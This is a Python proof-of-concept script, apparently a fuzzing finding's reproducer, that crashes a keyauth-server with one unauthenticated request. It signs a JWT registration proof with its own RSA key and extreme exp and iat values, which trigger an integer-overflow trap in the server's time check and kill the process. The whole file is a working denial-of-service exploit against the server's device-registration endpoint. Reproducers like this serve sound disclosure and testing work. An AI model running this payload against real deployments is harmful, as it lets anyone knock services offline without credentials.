#!/usr/bin/env python3
"""Crashes a running keyauth-server with one unauthenticated request (finding lifetime-overflow).

    keyauth-server serve --listen 127.0.0.1:8088 --db /tmp/x.db &
    python3 Fuzz/reproduce/lifetime-overflow-server.py 127.0.0.1:8088 http://127.0.0.1:8088

The registration proof is signed by a key the client makes itself, as the protocol allows, and
carries exp = 2^63 - 1 and iat = -2^63: JWTVerifier.checkTimes computes exp - iat, Swift traps on
the overflow, and the whole server process dies ("Swift runtime failure: arithmetic overflow").
Needs the `cryptography` package.
"""
import base64
import hashlib
import json
import sys
import urllib.request

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

address, issuer = sys.argv[1], sys.argv[2]


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
modulus = key.public_key().public_numbers().n.to_bytes(256, "big")
kid = b64(hashlib.sha256(('{"e":"AQAB","kty":"RSA","n":"%s"}' % b64(modulus)).encode()).digest())
header = b64(json.dumps({"alg": "RS256", "typ": "JWT", "kid": kid}, separators=(",", ":")).encode())
claims = '{"iss":"%s","sub":"%s","aud":"%s","iat":-9223372036854775808,"exp":9223372036854775807,"jti":"x"}' % (
    kid, kid, issuer)
payload = b64(claims.encode())
signature = b64(key.sign(f"{header}.{payload}".encode(), padding.PKCS1v15(), hashes.SHA256()))
public_pem = key.public_key().public_bytes(
    serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo).decode()
body = json.dumps({"user": "mallory", "name": "m", "public_key": public_pem,
                   "proof": f"{header}.{payload}.{signature}"}).encode()
request = urllib.request.Request(f"http://{address}/v1/devices", data=body,
                                 headers={"Content-Type": "application/json"})
try:
    with urllib.request.urlopen(request, timeout=10) as response:
        print("answered", response.status, "- not vulnerable")
except urllib.error.HTTPError as error:
    print("answered", error.code, error.read().decode(), "- not vulnerable")
except Exception as error:  # the connection drops when the server process dies
    print("no answer:", repr(error), "- check whether the server is still running")
